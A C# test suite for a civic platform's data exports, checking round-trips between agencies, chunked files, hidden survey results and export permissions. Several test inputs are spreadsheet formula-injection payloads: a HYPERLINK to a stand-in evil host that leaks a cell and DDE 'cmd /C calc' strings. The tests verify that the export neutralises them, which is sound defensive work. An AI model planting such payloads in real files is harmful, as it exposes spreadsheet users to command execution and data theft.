using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Cirm.Core.Insight.Results;
using Cirm.Core.Platform.Exports;
using Cirm.Core.Tenancy;
using Cirm.Jobs.Platform;
using Cirm.Tests.Harness;
using Cirm.Tests.Insight;
using Cirm.Tests.Transactions;
using CsvHelper;
using Microsoft.Extensions.DependencyInjection;

namespace Cirm.Tests.Platform;

/// <summary>Files that an agency takes out: whole, of one moment, safe for a clerk's spreadsheet, and showing no more than the lists do.</summary>
public sealed class ExportTests(CirmHost host)
{
    [Fact]
    public async Task Cases_go_out_and_come_in_again_in_another_agency()
    {
        var agency = await host.NewAgencyAsync();
        await agency.MakeServiceAsync();
        await host.ImportAsync(agency, "kind=cases", Importing.Text(Importing.Header,
            "\"A-1\",lights,phone,closed,\"Dark, \"\"very\"\"\",\"=HYPERLINK(\"\"http://evil\"\")\",2026-03-01T08:00:00Z,2026-03-02T08:00:00Z,42.31,-71.06,Dorchester,",
            "A-2,lights,web,submitted,تاریک است,,2026-03-03T08:00:00Z,,,,,"));
        await (await agency.Agent).PostJsonAsync($"{agency.Path}/cases", new { service = "lights", kind = "report", title = "Here", channel = "web" });

        var (lines, _) = await NdjsonAsync(agency, "cases");
        Assert.Equal(["Dark, \"very\"", "تاریک است", "Here"], lines.Select(l => (string?)l["title"]));
        Assert.Equal("=HYPERLINK(\"http://evil\")", (string?)lines[0]["description"]); // NDJSON is exact
        var listed = (await (await agency.Agent).GetJsonAsync($"{agency.Path}/cases"))["items"]!.AsArray();
        Assert.Equal(listed.Select(c => ((string?)c!["id"], (string?)c["status"], (string?)c["submittedAt"])).OrderBy(c => c.Item1),
            lines.Select(c => ((string?)c["id"], (string?)c["status"], (string?)c["submittedAt"])).OrderBy(c => c.Item1));

        var table = await TableAsync(agency, "cases");
        Assert.Equal(["'=HYPERLINK(\"http://evil\")", "", ""], table.Select(r => r["description"])); // and no spreadsheet runs it
        Assert.Equal(["-71.06", "", ""], table.Select(r => r["longitude"]));

        var other = await host.NewAgencyAsync();
        await other.MakeServiceAsync();
        var importable = Importing.Header.Split(',');
        var rows = table.Where(r => r["externalId"].Length > 0).Select(r => string.Join(',', importable.Select(c => $"\"{r[c].Replace("\"", "\"\"", StringComparison.Ordinal)}\"")));
        Assert.Equal("succeeded: 2 processed, 2 accepted, 0 unchanged, 0 rejected", (await host.ImportAsync(other, "kind=cases", Importing.Text([Importing.Header, .. rows]))).Told());
        Assert.Equal(lines.Take(2).Select(l => ((string?)l["title"], (string?)l["closedAt"])), (await NdjsonAsync(other, "cases")).Lines.Select(l => ((string?)l["title"], (string?)l["closedAt"])));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+98 51 3123 4567")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("'=1+1 is what I typed")]
    [InlineData("''=1+1")]
    [InlineData("'tis dark, and '=' means nothing here")]
    [InlineData("＝１＋１")]
    [InlineData("'")]
    public async Task What_citizens_wrote_is_no_formula_in_a_spreadsheet_and_comes_in_again_as_it_was(string text)
    {
        var (agency, other) = (await host.NewAgencyAsync(), await host.NewAgencyAsync());
        foreach (var home in (TestAgency[])[agency, other]) await home.MakeServiceAsync();
        await (await agency.Agent).PostJsonAsync($"{agency.Path}/cases",
            new { service = "lights", kind = "report", title = text, description = text, channel = "web", location = new { latitude = -33.86, longitude = -71.06, area = text } });
        var row = Assert.Single(await TableAsync(agency, "cases"));
        foreach (var column in (string[])["title", "description", "area"]) Assert.DoesNotContain(row[column][0], "=+-@＝＋－＠");
        Assert.Equal(("-33.86", "-71.06"), (row["latitude"], row["longitude"])); // a figure is a figure

        row["externalId"] = "A-1";
        var columns = Importing.Header.Split(',');
        var line = string.Join(',', columns.Select(c => $"\"{row[c].Replace("\"", "\"\"", StringComparison.Ordinal)}\""));
        Assert.Equal("succeeded: 1 processed, 1 accepted, 0 unchanged, 0 rejected", (await host.ImportAsync(other, "kind=cases", Importing.Text(Importing.Header, line))).Told());
        var again = Assert.Single((await NdjsonAsync(other, "cases")).Lines);
        Assert.Equal([text, text], ((string[])["title", "description"]).Select(c => (string?)again[c]));
    }

    [Fact]
    public async Task A_long_file_is_in_pieces_and_whole_and_an_attempt_that_was_killed_leaves_nothing_of_its_own()
    {
        var agency = await host.NewAgencyAsync();
        await agency.MakeServiceAsync();
        var text = new string('x', 1500);
        await host.ImportAsync(agency, "kind=cases", Importing.Text([Importing.Header, .. Enumerable.Range(1, 2500).Select(i => $"X-{i},lights,web,submitted,Case {i},{text},2026-03-01T08:00:00Z,,,,,")]));
        var (lines, export) = await NdjsonAsync(agency, "cases", accident: reports => reports == 3);
        Assert.Equal(Enumerable.Range(1, 2500).Select(i => $"X-{i}").Order(), lines.Select(l => (string?)l["externalId"]).Order());
        Assert.True((long)export["bytes"]! > 3 * ExportFiles.ChunkSize);
        Assert.Equal(2500, (long)(await (await agency.Admin).GetJsonAsync($"{agency.Path}/operations/{export["id"]}"))["processed"]!);
    }

    [Fact]
    public async Task Services_for_others_who_read_HSDS_too()
    {
        var agency = await host.NewAgencyAsync();
        await agency.MakeServiceAsync("lights");
        await (await agency.Admin).PostJsonAsync($"{agency.Path}/services", new { key = "draft", name = "Not yet" });
        var (lines, _) = await NdjsonAsync(agency, "services");
        var listed = (await host.Anonymous.GetJsonAsync($"{agency.Path}/services"))["items"]!.AsArray();
        Assert.Equal(listed.Select(s => s!.ToJsonString()), lines.Select(l => l.ToJsonString())); // the same answer
        var row = Assert.Single(await TableAsync(agency, "services"));
        Assert.Equal(("lights", "{\"firstResponseHours\":4,\"resolutionHours\":48}"), (row["key"], row["standard"].Replace(".00", "", StringComparison.Ordinal)));

        var (file, _) = await FetchAsync(agency, "services", "hsds");
        var page = JsonNode.Parse(file)!;
        Assert.Equal((1, true), ((int)page["total_items"]!, (bool)page["last_page"]!));
        var service = Assert.Single(page["contents"]!.AsArray())!;
        foreach (var required in (string[])["id", "name", "status"]) Assert.NotNull(service[required]); // schema/service.json of HSDS 3
        foreach (var required in (string[])["id", "name", "description"]) Assert.NotNull(service["organization"]![required]);
        Assert.Equal(("Street lights", "active", "Everybody at night"), ((string?)service["name"], (string?)service["status"], (string?)service["eligibility_description"]));
        Assert.DoesNotContain("null", file, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Results_as_they_are_published_and_what_is_hidden_stays_hidden()
    {
        var agency = await host.NewAgencyAsync();
        await Publishing.AttributeAsync(agency, "district", "7", "8");
        var wave = await Asking.OpenAsync(agency, new
        {
            key = "lamps", title = "Lamps", anonymity = "anonymous", breakdowns = (string[])["district"],
            questions = (object[])[new { key = "lit", type = "single", text = "Lit?", options = Asking.Options("yes", "no") }],
        });
        Assert.Empty((await NdjsonAsync(agency, "results")).Lines); // nothing is published yet
        await Publishing.StrataAsync(host, agency, wave, (new { district = "7" }, []), (new { district = "8" }, []));
        await Publishing.PutAsync(host, agency, wave, ((int, string, int)[])[(1, "yes", 28), (1, "no", 12), (2, "yes", 17), (2, "no", 3)] is var parts
            ? parts.SelectMany(p => Enumerable.Repeat((p.Item1, (object)new { lit = p.Item2 }), p.Item3)) : []);
        Assert.Equal(PublishOutcome.Published, await Publishing.PublishAsync(host, agency, wave));

        var (lines, _) = await NdjsonAsync(agency, "results");
        var read = await Publishing.ReadAsync(agency, wave, "?by=district");
        var yes = lines.Single(l => (string?)l["group"] == "all" && (string?)l["option"] == "yes");
        Assert.Equal((0.75, 45), ((double)yes["share"]!, (int)yes["count"]!));
        var hidden = lines.Single(l => (string?)l["by"] == "district" && (string?)l["group"] == "8" && (string?)l["option"] == "no");
        Assert.True(read.Of("lit", "8").Option("no").Suppressed());
        Assert.Equal((true, null, null), ((bool)hidden["suppressed"]!, (double?)hidden["count"], (double?)hidden["share"]));
        Assert.Equal(lines.Count, (await TableAsync(agency, "results")).Count);
    }

    [Fact]
    public async Task Initiatives_and_who_may_ask_for_a_file_and_for_how_long_it_is_there()
    {
        var agency = await host.NewAgencyAsync();
        var (admin, path) = (await agency.Admin, $"{agency.Path}/exports");
        await (await agency.Manager).PostJsonAsync($"{agency.Path}/initiatives",
            new { key = "bench", title = "A bench", tier = "consultation", opensAt = DateTimeOffset.UtcNow.AddDays(1), closesAt = DateTimeOffset.UtcNow.AddDays(9) });
        var (lines, export) = await NdjsonAsync(agency, "initiatives");
        Assert.Equal(("bench", "planned"), ((string?)lines[0]["key"], (string?)lines[0]["state"]));

        foreach (var body in (object[])[new { kind = "citizens" }, new { kind = "cases", format = "hsds" }, new { kind = "cases", format = "xlsx" }])
            await (await admin.PostAsJsonAsync(path, body)).RefusedAsync("validation");
        await (await (await agency.Manager).PostAsJsonAsync(path, new { kind = "cases" })).RefusedAsync("not-allowed");
        var asked = await admin.PostJsonAsync(path, new { kind = "cases" }, HttpStatusCode.Accepted);
        await (await admin.GetAsync($"{path}/{asked["id"]}/file")).RefusedAsync("export-not-ready");
        Assert.Equal([(string?)asked["id"], (string?)export["id"]], (await admin.GetJsonAsync(path))["items"]!.AsArray().Select(e => (string?)e!["id"]));
        var actions = await host.AuditActionsAsync(agency);
        Assert.Equal(2, actions.Count(a => a == "export.requested"));
        Assert.Contains("export.fetched", actions);

        var files = host.Services.GetRequiredService<ExportFiles>();
        await files.ForgetAsync(agency.Id, DateTimeOffset.UtcNow.AddHours(23), CancellationToken.None);
        await admin.GetJsonAsync($"{path}/{export["id"]}");
        await files.ForgetAsync(agency.Id, DateTimeOffset.UtcNow.AddHours(25), CancellationToken.None);
        await (await admin.GetAsync($"{path}/{export["id"]}/file")).RefusedAsync("not-found");
        Assert.Equal(0, await host.Database.ScalarAsOwnerAsync<long>($"select count(*) from export_chunks where agency_id = '{agency.Id}'"));
    }

    async Task<(List<JsonObject> Lines, JsonNode Export)> NdjsonAsync(TestAgency agency, string kind, Func<int, bool>? accident = null)
    {
        var (file, export) = await FetchAsync(agency, kind, "ndjson", accident);
        return ([.. file.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonNode.Parse(l)!.AsObject())], export);
    }

    async Task<List<IDictionary<string, string>>> TableAsync(TestAgency agency, string kind)
    {
        using var csv = new CsvReader(new StringReader((await FetchAsync(agency, kind, "csv")).File), CultureInfo.InvariantCulture);
        return [.. csv.GetRecords<dynamic>().Select(r => (IDictionary<string, string>)((IDictionary<string, object>)r).ToDictionary(f => f.Key, f => (string)f.Value))];
    }

    async Task<(string File, JsonNode Export)> FetchAsync(TestAgency agency, string kind, string format, Func<int, bool>? accident = null)
    {
        var (admin, path) = (await agency.Admin, $"{agency.Path}/exports");
        var asked = await admin.PostJsonAsync(path, new { kind, format }, HttpStatusCode.Accepted);
        var done = await CarryOutAsync(host, agency, (Guid)asked["id"]!, accident);
        Assert.Equal("succeeded", done);
        var export = await admin.GetJsonAsync($"{path}/{asked["id"]}");
        using var answer = await admin.GetAsync($"{path}/{asked["id"]}/file");
        var bytes = await answer.Content.ReadAsByteArrayAsync();
        Assert.Equal((long)export["bytes"]!, bytes.Length);
        Assert.Equal((string?)export["sha256"], Convert.ToHexStringLower(SHA256.HashData(bytes)));
        Assert.Equal("attachment", answer.Content.Headers.ContentDisposition!.DispositionType);
        return (Encoding.UTF8.GetString(bytes), export);
    }

    /// <summary>Makes the file as a worker does.</summary>
    public static async Task<string> CarryOutAsync(CirmHost host, TestAgency agency, Guid id, Func<int, bool>? accident = null)
    {
        var job = new RunExport(host.Services.GetServices<IExportSource>(), host.Services.GetRequiredService<TenantDb>(), TimeProvider.System);
        var done = await host.CarryOutAsync(agency.Id, id, progress => job.RunAsync(new(agency.Id, id), progress, CancellationToken.None), accident);
        return Cirm.Core.Platform.Wire.Word(done.State);
    }
}
